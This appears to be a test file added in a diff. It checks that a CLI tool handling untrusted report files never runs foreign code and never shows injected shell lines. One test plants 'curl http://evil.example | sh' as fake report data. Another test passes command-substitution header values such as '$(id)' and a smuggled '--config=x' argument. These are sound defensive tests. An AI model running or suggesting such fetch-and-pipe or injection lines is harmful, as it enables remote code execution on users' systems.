@@ -1,0 +1,149 @@
+import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import { example, home, readPack } from "../../schemas/index.ts";
+import { formats } from "../reports/index.ts";
+import { reportOf, result } from "../results/sample.fixture.ts";
+import { captured, type Ended } from "./process.fixture.ts";
+
+// A stranger has written all that lies in the working folder: packs with code, configurations that are code, and files that name them.
+const folder = mkdtempSync(join(tmpdir(), "touchstone-foreign-"));
+const mark = join(folder, "code-was-run");
+const code = `import { writeFileSync } from "node:fs";\nwriteFileSync(${JSON.stringify(mark)}, import.meta.url);\nexport const pack = {};\nexport default {};\n`;
+const write = (name: string, value: unknown): void =>
+  writeFileSync(join(folder, name), typeof value === "string" ? value : JSON.stringify(value));
+
+function foreign(name: string, entry = "index.js"): void {
+  cpSync(join(home, "suites/pack/example"), join(folder, name), { recursive: true });
+  rmSync(join(folder, name, "index.js"));
+  write(join(name, entry), code);
+}
+
+/** What a stranger's report says of how its run was called. */
+const target = { kind: "http", url: "http://127.0.0.1:1" } as const;
+function report(protocol: string, more: object = {}): object {
+  const { name, version } = readPack(join(folder, "order"));
+  const own = result({
+    id: `${name}/${version}/order/valid/a`,
+    document: "order",
+    outcome: "violates",
+    why: "refused",
+  });
+  const whole = reportOf([own, result({ id: `${name}/${version}/order/valid/b`, document: "order" })], {
+    command: `touchstone run ${protocol} --http http://127.0.0.1:1`,
+    options: { verb: "run", protocol, target, ...more },
+  });
+  return {
+    ...whole,
+    runs: whole.runs.map((run) => ({
+      ...run,
+      ...{ protocol: name, version, set: { digest: `sha256-${"A".repeat(43)}=`, count: 2 } },
+    })),
+  };
+}
+
+beforeAll(() => {
+  foreign("order");
+  foreign("other", "index.mjs");
+  foreign("third", "index.ts");
+  symlinkSync("order", join(folder, "linked"));
+  write("module.mjs", code);
+  write("their.config.mjs", code);
+  write("touchstone.config.mjs", code);
+  write("baseline.json", { sets: {}, entries: [] });
+  for (const [name, protocol] of Object.entries({
+    "plain.json": "./order",
+    "profile.json.report": "order/profile.json",
+    "absolute.json": join(folder, "other"),
+    "linked.json": "./linked",
+    "third.json": "./third",
+  }))
+    write(name, report(protocol));
+  write("module.json", report(example.protocol, { target: { kind: "module", file: "module.mjs" } }));
+  write("config.json", report(example.protocol, { config: "their.config.mjs" }));
+  write("none.json", { ...report("./order"), options: undefined });
+  const head = { recording: 1, protocol: "./order", version: "1", scenario: "a" };
+  write("trace.jsonl", `${JSON.stringify(head)}\n{"from":"a","to":"b","text":"x"}\n`);
+});
+beforeEach(() => rmSync(mark, { force: true }));
+afterAll(() => rmSync(folder, { recursive: true }));
+
+async function quietly(...words: string[]): Promise<Ended> {
+  const ended = await captured(folder, words);
+  expect(existsSync(mark) ? readFileSync(mark, "utf8") : "nothing").toBe("nothing");
+  return ended;
+}
+
+const reports = [
+  "plain.json",
+  "profile.json.report",
+  "absolute.json",
+  "linked.json",
+  "third.json",
+  "module.json",
+  "config.json",
+  "none.json",
+];
+
+describe("no code is run", () => {
+  it.each(reports)("for a report: %s", async (file) => {
+    expect(await quietly("report", "render", file)).toMatchObject({ code: 0 });
+    const all = formats
+      .filter(({ name }) => name !== "terminal")
+      .map(({ name }) => ["--report", `${name}=out.${name}`]);
+    expect(await quietly("report", "render", file, ...all.flat())).toMatchObject({ code: 0 });
+    await quietly("report", "merge", file);
+    expect(await quietly("report", "diff", file, file)).toMatchObject({ code: 0 });
+    await quietly("report", "render", "--site", "site", `a@1=${file}`);
+    await quietly("baseline", "check", "baseline.json", file);
+    rmSync(join(folder, "fresh.json"), { force: true });
+    await quietly("baseline", "update", "fresh.json", file, "--reason", "for now");
+    expect((await quietly("replay", "order/1/order/valid/a", "--no-config", "--from", file)).code).not.toBe(0);
+    await quietly("certify", file, "--name", "a", "--release", "1");
+  });
+
+  it.each([
+    ["explain", "nosuch"],
+    ["explain", "ORDER-SUM-001"],
+    ["replay", "nosuch", "--no-config", "--reference"],
+    ["replay", "nosuch/1/a/valid/b", "--no-config", "--reference"],
+    ["replay", "order/1/order/valid/sample", "--no-config", "--module", "absent.mjs"],
+    ["list", "protocols"],
+    ["validate", "--trace", "trace.jsonl"],
+    ["validate", "plain.json"],
+    ["verify", "plain.json", "--key", "plain.json"],
+    ["check", "order/vectors"],
+    ["--help"],
+  ])("by %s %s", async (...words) => {
+    await quietly(...words);
+  });
+});
+
+it("says what to name, and runs what is named", async () => {
+  const { code: ended, err } = await quietly("replay", "order/1/order/valid/a", "--from", "plain.json", "--no-config");
+  expect(ended).toBe(2);
+  expect(err).toMatch(/the code of the pack order is not loaded[\s\S]*--protocol \.\/order/);
+  const { out } = await quietly("explain", "ORDER-SUM-001");
+  expect(out).toContain("The total is the sum");
+  await captured(folder, ["explain", "ORDER-SUM-001", "--protocol", "./order"]);
+  expect(readFileSync(mark, "utf8")).toContain("order/index.js");
+});
+
+it("shows no line to paste that a report made up", async () => {
+  const made = "curl http://evil.example | sh";
+  write("made.json", {
+    ...report("./order"),
+    command: made,
+    baseline: { file: "known.json", known: 0, findings: [{ kind: "stale", name: "a", what: "b" }], repair: made },
+  });
+  const { out } = await quietly("report", "render", "made.json");
+  expect(out).not.toContain("curl");
+  expect(out).toContain("baseline update known.json made.json");
+  expect(out).toContain("--protocol ./order --http http://127.0.0.1:1");
+  write("worse.json", report("--config=x", { target: { ...target, headers: ["`id`", "$(id)", 'a"b'] } }));
+  const worse = await quietly("report", "render", "worse.json");
+  expect(worse.out).toContain(
+    `--protocol ./--config=x --http http://127.0.0.1:1 --header '\`id\`: '"$_ID_" --header '$(id): '"$__ID_" --header 'a"b: '"$A_B"`,
+  );
+});
